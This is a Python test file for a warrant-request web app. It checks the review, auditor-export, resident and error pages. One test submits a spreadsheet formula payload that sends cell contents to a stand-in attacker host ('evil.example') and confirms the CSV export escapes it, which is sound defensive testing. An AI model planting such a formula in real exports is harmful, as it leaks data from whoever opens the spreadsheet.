"""The request pages in-process (real app, SQLite and PostgreSQL), signed in with a browser's
cookie session: what the reviewer, requester, resident and auditor pages say and answer when
a request cannot go ahead."""

from __future__ import annotations

import base64
import csv
import io
import re
from functools import partial
from typing import Any

import httpx
from fastapi import FastAPI
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient

from app.permissions import Role
from app.route_index import _walk
from tests.server.factories import Clock, Community, Person
from tests.server.requests.helpers import make_world
from tests.server.requests.test_warrant_expiry import expiring
from tests.server.route_rules import ROUTE_RULES
from tests.web.test_page_rules import NOT_PAGES

HTML = {"Accept": "text/html,application/xhtml+xml"}


class Browser:
    """A signed-in cookie session, as a browser has: its own client and CSRF token."""

    def __init__(self, app: FastAPI, community: Community, person: Person) -> None:
        # A crash is a 500 response here, as a browser would get, not an exception.
        self.client = TestClient(app, follow_redirects=False, raise_server_exceptions=False)
        self.csrf = community.login(person, self.client)

    def get(self, path: str) -> str:
        response = self.client.get(path, headers=HTML)
        assert response.status_code == 200, response.text
        return str(response.text)

    def post(self, path: str, **fields: str) -> tuple[int, str]:
        response = self.client.post(path, data={**fields, "csrf_token": self.csrf}, headers=HTML)
        return response.status_code, response.text


def _card(page: str, request_id: int) -> str:
    """One request's card on a page (its <section>)."""
    found = re.search(
        rf'<section[^>]*>\s*<h2 id="[^"]+">Request #{request_id}:.*?</section>', page, re.S
    )
    assert found is not None, page
    return found.group(0)


def test_the_review_page_says_an_expired_warrant_can_only_be_rejected(
    app: FastAPI, community: Community, clock: Clock
) -> None:
    world = make_world(community)
    created = world.submit(**expiring(community.now().date()))
    today = Browser(app, community, world.reviewer)
    assert "can no longer be approved" not in _card(today.get("/review"), created["id"])

    clock.advance(days=5)
    reviewer = Browser(app, community, world.reviewer)  # signed in afresh: sessions time out
    card = _card(reviewer.get("/review"), created["id"])
    assert "This warrant expired on" in card and "can no longer be approved" in card
    status, page = reviewer.post(
        f"/review/{created['id']}", decision="approve", reason="court record checked"
    )
    assert status == 409
    assert "can no longer be approved: reject it" in _card(page, created["id"])
    status, _ = reviewer.post(
        f"/review/{created['id']}", decision="reject", reason="the warrant has expired"
    )
    assert status == 303
    assert "No requests are waiting for review." in reviewer.get("/review")


def test_the_review_form_answers_with_the_status_the_api_gives(
    app: FastAPI, community: Community
) -> None:
    world = make_world(community)
    created = world.submit()
    reviewer = Browser(app, community, world.reviewer)
    # The form's own checks: 422, beside the field.
    status, page = reviewer.post(f"/review/{created['id']}", decision="approve", reason=" ")
    assert status == 422 and "give a reason" in page
    status, _ = reviewer.post(f"/review/{created['id']}", decision="reject", reason="no warrant")
    assert status == 303
    # Reviewing a decided request again is a conflict, through the web as through the API.
    api = world.review(created["id"], "approve", reviewer=community.person(Role.reviewer))
    status, page = reviewer.post(f"/review/{created['id']}", decision="approve", reason="fine")
    assert api.status_code == status == 409
    assert api.json()["message"] in page
    # A request that does not exist is 404 on both.
    missing = world.review(10**6)
    status, page = reviewer.post("/review/1000000", decision="approve", reason="fine")
    assert missing.status_code == status == 404
    assert missing.json()["message"] in page


def test_the_auditor_export_is_a_logged_read_of_the_warrants(
    app: FastAPI, community: Community
) -> None:
    world = make_world(community)
    created = [world.submit()["id"] for _ in range(3)]
    auditor = community.person(Role.auditor)
    browser = Browser(app, community, auditor)
    before = community.counts()["log_entries"]
    checkpoint = community.client.get("/log/checkpoint").text

    exported = browser.client.get("/audit/export/requests.csv", headers=HTML)
    assert exported.status_code == 200
    assert exported.text.count("TS-2026-0042") == 3  # the warrant fields are read
    # A read, like request:read: it waits for the periodic checkpoint instead of signing one.
    assert community.client.get("/log/checkpoint").text == checkpoint

    entries = _log_entries(community, auditor)
    assert len(entries) == before + 1  # committed with the read, one entry for it all
    entry = entries[-1]
    assert (entry["actor"], entry["action"], entry["subject"]) == (
        f"user:{auditor.id}",
        "request:export",
        f"user:{auditor.id}",
    )
    assert entry["details"] == {"requests": 3, "first": min(created), "last": max(created)}
    # The entry records the read, never what was read.
    warrant = world.request_body()["warrant"]
    raw = base64.b64decode(entry["entry"]).decode()
    for field in ("court", "docket_number", "judge", "document_sha256"):
        assert warrant[field] not in raw, field


def test_the_auditor_export_never_hands_a_spreadsheet_a_formula(
    app: FastAPI, community: Community
) -> None:
    """A requester's offence text (or a judge's name) starting with = + - @ ran as a formula
    when the auditor opened the export in a spreadsheet; now it is shown as text."""
    world = make_world(community)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    world.submit(offence=formula, **{"warrant.judge": "@SUM(1+1)"})
    browser = Browser(app, community, community.person(Role.auditor))
    exported = browser.client.get("/audit/export/requests.csv", headers=HTML)
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows[-1]["offence"] == "'" + formula
    assert rows[-1]["judge"] == "'@SUM(1+1)"
    assert rows[-1]["court"] == "Testshire Magistrates' Court"  # other text is unchanged


def _log_entries(community: Community, auditor: Person) -> list[dict[str, Any]]:
    response = community.client.get(
        "/api/log/entries", params={"start": 0, "limit": 1000}, headers=community.auth(auditor)
    )
    assert response.status_code == 200, response.text
    return list(response.json()["entries"])


def _integer_id_routes(app: FastAPI) -> list[tuple[str, str, list[str]]]:
    """Every page route with an integer path id: (method, path, the ids' names)."""
    found = []
    for path, route in _walk(app.routes):
        if path.startswith(NOT_PAGES) or not isinstance(route, APIRoute):
            continue
        names = [f.name for f in route.dependant.path_params if f.field_info.annotation is int]
        found += [(method, path, names) for method in route.methods or () if names]
    return sorted(found)


def _call(
    browser: Browser, method: str, template: str, names: list[str], value: int
) -> httpx.Response:
    """`template` with every integer id `value`, as a signed-in browser (forms send no fields)."""
    path = template.replace("{shared_clip_id}", "0" * 24)
    for name in names:
        path = path.replace("{" + name + "}", str(value))
    if method == "GET":
        response: httpx.Response = browser.client.get(path, headers=HTML)
    else:
        response = browser.client.post(path, data={"csrf_token": browser.csrf}, headers=HTML)
    return response


def test_integer_ids_out_of_range_get_a_page_not_a_crash(
    app: FastAPI, community: Community
) -> None:
    routes = _integer_id_routes(app)
    assert len(routes) >= 9
    browsers: dict[Role, Browser] = {}
    for method, template, names in routes:
        rule = ROUTE_RULES[(method, template)]
        assert isinstance(rule, frozenset)
        role = min(rule)
        if role not in browsers:
            browsers[role] = Browser(app, community, community.person(role))
        call = partial(_call, browsers[role], method, template, names)
        # Beyond what PostgreSQL's INTEGER id columns (2**31) or SQLite (2**63, 2**70) can
        # take, and below 1: the error page, naming the id, before any query.
        for value in (2**70, 2**63, 2**31, 0, -1):
            response = call(value)
            where = (method, template, value)
            assert response.status_code == 422, (where, response.status_code, response.text)
            assert response.headers["content-type"].startswith("text/html"), where
            assert "Please check what you entered" in response.text, where
            assert names[0] in response.text, where
        # A well-formed id that names nothing: the not-found page (the form routes refuse
        # their empty fields first); 2**31 - 1 is the largest id (app.deps.MAX_ROW_ID).
        response = call(2**31 - 1)
        assert response.status_code in (404, 422), (method, template, response.text)
        assert response.headers["content-type"].startswith("text/html")


def test_an_ask_of_a_closed_request_shows_as_closed(app: FastAPI, community: Community) -> None:
    world = make_world(community)
    resident = community.person(Role.resident)
    device = world.located_device(resident, 20, 10)
    opened = world.open_request()
    ask_id = world.device_asks(device)[0]["ask_id"]
    browser = Browser(app, community, resident)
    card = _card(browser.get("/resident/asks"), opened["id"])
    assert "Waiting for your answer" in card and f"/resident/asks/{ask_id}/decline" in card

    closed = community.client.post(
        f"/api/requests/{opened['id']}/close", headers=community.auth(world.agency.requester)
    )
    assert closed.status_code == 200, closed.text
    # Consent is refused now, and the page no longer asks for an answer.
    assert world.consent(device, ask_id, opened["id"], ["clip-1"]).status_code == 409
    for page in ("/resident/asks", "/resident/history"):
        card = _card(browser.get(page), opened["id"])
        assert "Closed before you answered" in card, page
        assert "Waiting for your answer" not in card and "/decline" not in card, page
